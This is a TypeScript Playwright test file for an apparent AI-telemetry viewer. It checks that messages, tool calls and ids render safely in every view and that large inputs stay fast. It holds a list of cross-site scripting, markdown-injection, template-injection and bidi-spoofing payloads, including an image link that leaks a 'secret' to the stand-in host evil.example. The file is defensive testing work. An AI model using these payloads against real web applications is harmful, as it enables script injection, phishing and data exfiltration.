import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, it } from "vitest";
import { Collector } from "./collector";
import { launch, row, Watched } from "./page";
import { Request, says } from "./telemetry";

let browser: Browser;
let collector: Collector;
let watched: Watched;

beforeAll(async () => {
  [browser, collector] = await Promise.all([
    launch(), Collector.start({ 
      buffer: [
        "request_id: {attributes: [app.request.id]}",
        "limits: {max_event_bytes: 16MiB, max_request_bytes: 64MiB}",
        "envelope: {max_batch_bytes: 128MiB}",
      ].join("\n"),
      live: "ring: {bytes: 128MiB}",
    }),
  ]);
});
afterAll(async () => {
  await browser?.close();
  await collector?.stop();
});
// It fails when anything ran, another host was asked, or the policy was violated.
afterEach(() => watched.close());

const scripts = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<svg onload="alert(1)"><script>alert(2)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<style>body{display:none}</style><div style="position:fixed;inset:0">over all</div>',
  "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>",
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "![image](https://evil.example/pixel.png?secret=1)",
  '![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+ "title\\" onerror=alert(1)")',
  "[click](javascript:alert(1)) [click](data:text/html,<script>alert(1)</script>) [click](vbscript:x)",
  "[**your bank**](https://evil.example/login)",
  "<https://evil.example/auto> and https://evil.example/bare",
  "[ref]: https://evil.example/ref\n\n[ref] ![ref]",
  "```html\n<script>alert(1)</script>\n```",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![x](https://evil.example/t.png) |",
  "\u202egnp.exe \u2066isolated\u2069 \u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u0000\u0008",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
];
const everything = scripts.join("\n\n");

async function open(page: Page, service: string): Promise<void> {
  await row(page, service).first().click();
  await page.getByRole("region", { name: "Request" }).waitFor();
}

it("executes nothing and asks nobody, whatever the content, in every view", async () => {
  const request = new Request(collector, "hostile");
  await request.log("gen_ai.user.message", { content: everything }, { attributes: { [everything.slice(0, 200)]: everything } });
  await request.end({
    model: scripts[1] ?? "", name: everything, provider: everything, operation: scripts[0] ?? "",
    error: { type: scripts[0] ?? "", message: everything },
    system: [{ type: "text", content: everything }],
    tools: [{ type: "function", name: everything, description: everything }],
    input: [
      says("user", ...scripts),
      { role: everything, name: everything, parts: [{ type: everything, content: everything }, { type: "reasoning", content: everything }] },
      { role: "assistant", parts: [{ type: "tool_call", id: everything, name: everything, arguments: { [everything]: everything } }] },
      { role: "tool", parts: [{ type: "tool_call_response", id: everything, response: everything }] },
      {
        role: "user", parts: [
          { type: "blob", modality: "image", mime_type: "image/svg+xml", content: btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
          { type: "uri", modality: "image", mime_type: everything, uri: "https://evil.example/cat.jpg" },
          { type: "uri", modality: everything, uri: "javascript:alert(1)" },
        ],
      },
    ],
    output: [says("assistant", ...scripts)],
    attributes: { "gen_ai.conversation.id": everything, "gen_ai.response.id": everything, "gen_ai.request.stop_sequences": scripts, "gen_ai.response.model": everything },
  });
  watched = await Watched.open(browser, collector.base);
  const { page } = watched;
  await open(page, "hostile");
  const detail = page.getByRole("region", { name: "Request" });
  await detail.getByText("your bank").first().waitFor();
  for (const mode of ["Markdown", "Plain", "Raw"]) {
    await page.getByRole("button", { name: mode, exact: true }).click();
    await page.evaluate(() => document.querySelectorAll("details").forEach((d) => (d.open = true)));
    await page.mouse.wheel(0, 4000);
    expect(await page.locator(".detail-scroll :is(img, script, iframe, style, form, base, object, embed, svg:not(.icon), link)").count(), mode).toBe(0);
  }
  await page.getByRole("button", { name: "Markdown", exact: true }).click();
  const links = await detail.locator(".markdown a").evaluateAll((all) => all.map((a) => [a.getAttribute("href"), a.getAttribute("rel"), a.getAttribute("target")]));
  expect(links.length).toBeGreaterThan(3);
  for (const [href, rel, target] of links) {
    expect(href).toMatch(/^(https?:|mailto:)/);
    expect(rel).toBe("noopener noreferrer nofollow");
    expect(target).toBe("_blank");
  }
  // A link says where it leads.
  await detail.getByText("(evil.example)").first().waitFor();
  expect(await page.locator("[style]").evaluateAll((all) => all.filter((e) => e.closest(".markdown")).length)).toBe(0);
  for (const view of ["Timeline", "Calls", "Raw"]) {
    await page.getByRole("navigation", { name: "Views" }).getByRole("link", { name: view }).click();
    const closed = page.locator('.detail [aria-expanded="false"]');
    while ((await closed.count()) > 0) await closed.first().click();
    for (let n = 0; n < 4; n++) await page.evaluate(() => document.querySelectorAll("details").forEach((d) => (d.open = true)));
  }
  await page.getByRole("button", { name: "Filter", exact: true }).click();
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "nothing sticks out").toBe(true);
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).toBe("block");
});

it("shows characters that turn text around, and terminal escapes, as such", async () => {
  const request = new Request(collector, "bidi\u202egnp");
  await request.end({ model: "gpt\u202eo4", input: [says("user", "invoice\u202egpj.exe \u001b[31mred")], output: [says("assistant", "שלום world")] });
  watched = await Watched.open(browser, collector.base);
  const { page } = watched;
  const it = row(page, "bidi");
  expect(await it.locator(".c-service").textContent()).toBe("bidi⟨U+202E⟩gnp");
  await it.click();
  await page.getByText("invoice⟨U+202E⟩gpj.exe ␛[31mred").waitFor();
  await page.getByText("שלום world").waitFor();
  expect(await page.getByRole("article", { name: "assistant message" }).locator(".markdown").getAttribute("dir")).toBe("auto");
  expect(await page.evaluate(() => document.body.innerText.includes("\u202e"))).toBe(false);
});

it("opens requests whose ids have slashes, quotes and more", async () => {
  watched = await Watched.open(browser, collector.base);
  const { page } = watched;
  const ids = ["a/b/../c", `q"uo'te<script>alert(1)</script>`, "per%2Fcent?x=1#y&z", "ünï 漢字 \u202e", "r/assets/x.js", "x".repeat(200), "a\\b", "//evil.example/x"];
  for (const [n, id] of ids.entries()) {
    await new Request(collector, `odd-${n}`).end({ attributes: { "app.request.id": id }, output: [says("assistant", `this is number ${n}`)] });
  }
  for (const [n, id] of ids.entries()) {
    await page.goto(collector.base);
    await open(page, `odd-${n}`);
    await page.getByText(`this is number ${n}`).waitFor();
    expect(decodeURIComponent(new URL(page.url()).pathname)).toBe(`/r/${id}`);
    // The permalink by itself.
    await page.reload();
    await page.getByText(`this is number ${n}`).waitFor();
    await row(page, `odd-${n}`).waitFor();
  }
});

it("stays quick with messages of 5 MB", async () => {
  const line = "All work and no play makes Jack a dull boy. **bold** `code` <b>html</b>\n";
  const request = new Request(collector, "huge");
  await request.end({ input: [says("user", line.repeat(5e6 / line.length))], output: [says("assistant", "x".repeat(5e6))] });
  watched = await Watched.open(browser, collector.base);
  const { page } = watched;
  await row(page, "huge").getByText("done").waitFor();
  const began = Date.now();
  await open(page, "huge");
  await page.getByText("All work and no play").first().waitFor();
  for (const mode of ["Plain", "Raw", "Markdown"]) await page.getByRole("button", { name: mode, exact: true }).click();
  const more = page.getByRole("button", { name: "Show 100 KB more" }).first();
  await more.waitFor();
  await more.click();
  await page.getByText(/4\.9 MB left of 5 MB/).first().waitFor();
  for (const key of ["2", "4", "1"]) await page.keyboard.press(key);
  await page.getByText("All work and no play").first().waitFor();
  expect(Date.now() - began).toBeLessThan(15_000);
  expect(await page.evaluate(() => document.body.innerText.length)).toBeLessThan(400_000);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "nothing sticks out").toBe(true);
});
